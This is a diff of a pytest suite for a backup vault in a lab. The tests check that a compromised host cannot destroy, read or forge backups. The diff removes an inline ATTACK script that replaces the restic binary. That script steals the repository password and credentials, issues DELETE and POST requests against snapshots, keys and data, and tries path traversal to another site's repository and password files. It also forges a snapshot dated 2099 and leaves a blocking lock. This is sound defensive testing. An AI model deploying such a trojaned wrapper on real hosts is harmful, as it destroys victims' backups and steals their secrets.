@@ -11,85 +11,10 @@ from collections.abc import Callable, Iterator
 from typing import Any
 
 import pytest
+from backup_attacks import ATTACK, OF_WEB02
+from lab_shell import on, vault
 
 from ungcuu.lab import Lab
-
-ATTACK = r"""#!/usr/bin/python3
-import hashlib, json, os, subprocess, sys, urllib.request, urllib.error, base64
-if "backup" not in sys.argv:
-    os.execv("/usr/bin/restic.real", ["restic", *sys.argv[1:]])
-value = lambda name: next(a.split("=", 1)[1] for a in sys.argv if a.startswith(name + "="))
-password, where = open(value("--password-file")).read(), open(value("--repository-file")).read()
-credentials, address = where[len("rest:http://"):].rstrip("/").split("@")
-token = "Basic " + base64.b64encode(credentials.encode()).decode()
-loot = {"password": password, "answers": {}, "read": []}
-
-def ask(method, path, body=None, accept="application/vnd.x.restic.rest.v2"):
-    head = {"Authorization": token, "Accept": accept}
-    request = urllib.request.Request(f"http://{address}{path}", method=method, data=body, headers=head)
-    try:
-        with urllib.request.urlopen(request, timeout=10) as answer:
-            return answer.status, answer.read()
-    except urllib.error.HTTPError as error:
-        return error.code, b""
-    except OSError as error:
-        return 0, str(error).encode()
-
-for kind in ("snapshots", "keys", "index", "data"):
-    names = [row["name"] for row in json.loads(ask("GET", f"/{kind}/")[1] or b"[]")]
-    loot["answers"][f"list {kind}"] = len(names)
-    for name in names:
-        loot["answers"][f"DELETE /{kind}/{name}"] = ask("DELETE", f"/{kind}/{name}")[0]
-        loot["answers"][f"POST /{kind}/{name}"] = ask("POST", f"/{kind}/{name}", b"junk")[0]
-for method, path in (("DELETE", "/config"), ("POST", "/config"), ("DELETE", "/"), ("POST", "/?create=true")):
-    loot["answers"][f"{method} {path}"] = ask(method, path, b"junk" if method == "POST" else None)[0]
-for path in ("/../web02/repository/config", "/..%2f..%2fweb02%2frepository%2fconfig",
-             "/data/../../../web02/repository/config", "/../../../../etc/ungcuu-vault/passwords/web02",
-             "/web02/repository/config", "/web02/config", "/web02/", "/../ledger.json", "/%2e%2e/ledger.json"):
-    loot["answers"][f"read {path}"], body = ask("GET", path)
-    loot["read"].append(hashlib.sha256(body).hexdigest())
-    if os.path.exists("/root/write-elsewhere"):
-        loot["answers"][f"write {path}"] = ask("POST", path, b"junk")[0]
-open("/root/loot.json", "w").write(json.dumps(loot))
-if os.path.exists("/root/forge"):
-    environment = dict(os.environ, RESTIC_PASSWORD=password, RESTIC_REPOSITORY=where)
-    forge = ["/usr/bin/restic.real", "--no-cache", "backup", "--time", "2099-01-01 00:00:00"]
-    forge += ["--host=web01", "/etc/issue"]
-    subprocess.run(forge, env=environment, check=True, stdout=subprocess.DEVNULL)
-if os.path.exists("/root/leave-lock"):
-    import time
-    environment = dict(os.environ, RESTIC_PASSWORD=password, RESTIC_REPOSITORY=where)
-    prune = subprocess.Popen(["/usr/bin/restic.real", "--no-cache", "prune"], env=environment)
-    before = ask("GET", "/locks/")[1]
-    for _ in range(100):
-        time.sleep(0.1)
-        if ask("GET", "/locks/")[1] != before:
-            break
-    prune.kill()  # its lock is exclusive, and stays
-again = [f"--password-file=/dev/stdin" if a.startswith("--password-file") else a for a in sys.argv[1:]]
-reader, writer = os.pipe()
-os.write(writer, where.encode()); os.close(writer); os.set_inheritable(reader, True)
-again = [f"--repository-file=/dev/fd/{reader}" if a.startswith("--repository-file") else a for a in again]
-passed = [reader, int(value("--exclude-file").rpartition("/")[2])]
-done = subprocess.run(["/usr/bin/restic.real", *again], input=password.encode(), pass_fds=passed)
-sys.exit(done.returncode)
-"""
-
-
-OF_WEB02 = "cd /var/lib/ungcuu-vault/sites/web02 && find . -type f -print0 | sort -z | xargs -0 sha256sum"
-
-
-def run(lab: Lab, host: str, command: str, given: str | None = None) -> str:
-    """Run a shell command as root on a lab host."""
-    done = lab.exec(host, ["sh", "-c", command], given.encode() if given is not None else None)
-    assert done.returncode == 0, done.stderr.decode(errors="replace")
-    return done.stdout.decode()
-
-
-def vault(lab: Lab, *words: str) -> dict[str, Any]:
-    """Ask the vault's own command."""
-    answer: dict[str, Any] = json.loads(lab.exec("vault01", ["ungcuu-vault", *words]).stdout)
-    return answer
 
 
 def content(lab: Lab, point: str) -> str:
@@ -100,7 +25,7 @@ def content(lab: Lab, point: str) -> str:
         " --password-command 'echo '$(cat /etc/ungcuu-vault/passwords/web01)"
         f" dump {point} / --archive tar | sha256sum"
     )
-    return run(lab, "vault01", read).split()[0]
+    return on(lab, "vault01", read).split()[0]
 
 
 @pytest.fixture(scope="module")
@@ -111,17 +36,17 @@ def attacked(fresh: Callable[..., Lab], playbook: Callable[..., Any]) -> Iterato
     assert done.returncode == 0, done.stdout[-3000:]
     before = vault(lab, "choose", "web01")["point"]
     # Another website's backups on the same vault: settings as of web01, a repository and password of its own.
-    run(lab, "vault01", "cd /etc/ungcuu-vault/sites && cp web01.json web02.json && ungcuu-vault prepare web02")
-    run(lab, "vault01", f"{OF_WEB02} > /root/of-web02")
+    on(lab, "vault01", "cd /etc/ungcuu-vault/sites && cp web01.json web02.json && ungcuu-vault prepare web02")
+    on(lab, "vault01", f"{OF_WEB02} > /root/of-web02")
     sealed = content(lab, before["id"])
-    run(
+    on(
         lab,
         "web01",
         "mv /usr/bin/restic /usr/bin/restic.real; cat > /usr/bin/restic; chmod 755 /usr/bin/restic",
         ATTACK,
     )
     yield lab, before, sealed
-    run(
+    on(
         lab,
         "web01",
         "mv /usr/bin/restic.real /usr/bin/restic; rm -f /root/forge /root/leave-lock",
@@ -132,7 +57,7 @@ def test_root_on_the_host_can_not_touch_earlier_points(attacked: tuple[Lab, dict
     """Ransomware deletes the backups first. Seen failing with `--append-only` taken out of the server's command."""
     lab, before, sealed = attacked
     assert vault(lab, "backup", "web01")["outcome"] == "DONE"
-    loot = json.loads(run(lab, "web01", "cat /root/loot.json"))
+    loot = json.loads(on(lab, "web01", "cat /root/loot.json"))
     answers = loot["answers"]
     assert answers["list snapshots"] >= 1, "the attack must have reached the repository, or this proves nothing"
     assert answers["list data"] >= 1
@@ -147,37 +72,37 @@ def test_root_on_the_host_can_not_reach_other_hosts_backups(attacked: tuple[Lab,
     No backup writes such names, so the run is refused.
     """
     lab, before, sealed = attacked
-    run(lab, "web01", "touch /root/write-elsewhere")
+    on(lab, "web01", "touch /root/write-elsewhere")
     answer = vault(lab, "backup", "web01")
-    run(lab, "web01", "rm /root/write-elsewhere")
+    on(lab, "web01", "rm /root/write-elsewhere")
     assert answer["outcome"] == "NOT DONE"
     assert "files that no backup writes: web02" in answer["reason"]
     assert [row["kind"] for row in vault(lab, "points", "web01")["refused"]] == ["names"]
     assert content(lab, before["id"]) == sealed
-    loot = json.loads(run(lab, "web01", "cat /root/loot.json"))
+    loot = json.loads(on(lab, "web01", "cat /root/loot.json"))
     # rclone answers for folders below the host's own repository, so that a code proves nothing: what was read does.
-    theirs = run(lab, "vault01", "cd /var/lib/ungcuu-vault/sites/web02/repository && sha256sum config keys/*").split()
+    theirs = on(lab, "vault01", "cd /var/lib/ungcuu-vault/sites/web02/repository && sha256sum config keys/*").split()
     assert not set(theirs) & set(loot["read"])
-    assert run(lab, "vault01", OF_WEB02) == run(lab, "vault01", "cat /root/of-web02")
-    assert loot["password"].strip() != run(lab, "vault01", "cat /etc/ungcuu-vault/passwords/web02").strip()
+    assert on(lab, "vault01", OF_WEB02) == on(lab, "vault01", "cat /root/of-web02")
+    assert loot["password"].strip() != on(lab, "vault01", "cat /etc/ungcuu-vault/passwords/web02").strip()
 
 
 def test_nothing_of_the_vault_is_left_to_find(attacked: tuple[Lab, dict[str, Any], str]) -> None:
     """Between two backups the host holds no way in: no port, no password, no key of the vault."""
     lab, _, _ = attacked
-    password = run(lab, "vault01", "cat /etc/ungcuu-vault/passwords/web01").strip()
-    run(lab, "web01", "rm -f /root/loot.json")
+    password = on(lab, "vault01", "cat /etc/ungcuu-vault/passwords/web01").strip()
+    on(lab, "web01", "rm -f /root/loot.json")
     found = lab.exec(
         "web01", ["grep", "-rlF", password, "/etc", "/root", "/var/lib", "/var/cache", "/tmp", "/run", "/home"]
     )
     assert found.stdout == b""
-    assert "18765" not in run(lab, "web01", "ss -Hltn")
+    assert "18765" not in on(lab, "web01", "ss -Hltn")
 
 
 def test_forged_points_are_never_offered(attacked: tuple[Lab, dict[str, Any], str]) -> None:
     """A point dated 2099 would be "the latest" forever, and push the good ones out of the retention."""
     lab, before, sealed = attacked
-    run(lab, "web01", "touch /root/forge")
+    on(lab, "web01", "touch /root/forge")
     answer = vault(lab, "backup", "web01")
     assert answer["outcome"] == "NOT DONE"
     assert "2 points arrived" in answer["reason"]
@@ -195,12 +120,12 @@ def test_forged_points_are_never_offered(attacked: tuple[Lab, dict[str, Any], st
 def test_locks_left_behind_stop_nothing(attacked: tuple[Lab, dict[str, Any], str]) -> None:
     """A lock is one small file that an append-only server must take: it must not end all backups to come."""
     lab, before, sealed = attacked
-    run(lab, "web01", "rm -f /root/forge; touch /root/leave-lock")
+    on(lab, "web01", "rm -f /root/forge; touch /root/leave-lock")
     vault(lab, "backup", "web01")
-    kept = run(lab, "vault01", "ls /var/lib/ungcuu-vault/sites/web01/locks-left-behind").split()
+    kept = on(lab, "vault01", "ls /var/lib/ungcuu-vault/sites/web01/locks-left-behind").split()
     assert kept, "the intruder left no lock, so this proves nothing"
-    assert "locks" not in run(lab, "vault01", "ls /var/lib/ungcuu-vault/sites/web01/repository/").split()
-    run(lab, "web01", "rm -f /root/leave-lock")
+    assert "locks" not in on(lab, "vault01", "ls /var/lib/ungcuu-vault/sites/web01/repository/").split()
+    on(lab, "web01", "rm -f /root/leave-lock")
     assert vault(lab, "backup", "web01")["outcome"] == "DONE"
     assert content(lab, before["id"]) == sealed
 
@@ -259,13 +184,13 @@ def test_each_forced_command_holds_alone(attacked: tuple[Lab, dict[str, Any], st
     lab, _, _ = attacked
     files = {"sshd": "/etc/ssh/sshd_config.d/50-ungcuu-backup.conf", "keys": "/etc/ssh/ungcuu-backup.keys"}
     for name, path in files.items():
-        run(lab, "web01", f"cp -a {path} /root/{name}.whole")
+        on(lab, "web01", f"cp -a {path} /root/{name}.whole")
     try:
-        run(lab, "web01", without.format(**files) + "; systemctl reload ssh")
-        assert all(run(lab, "web01", f"cat {path}") for path in files.values())
+        on(lab, "web01", without.format(**files) + "; systemctl reload ssh")
+        assert all(on(lab, "web01", f"cat {path}") for path in files.values())
         assert opens_a_shell(lab) is opens
     finally:
         for name, path in files.items():
-            run(lab, "web01", f"cp -a /root/{name}.whole {path}")
-        run(lab, "web01", "systemctl reload ssh")
+            on(lab, "web01", f"cp -a /root/{name}.whole {path}")
+        on(lab, "web01", "systemctl reload ssh")
     assert not opens_a_shell(lab)
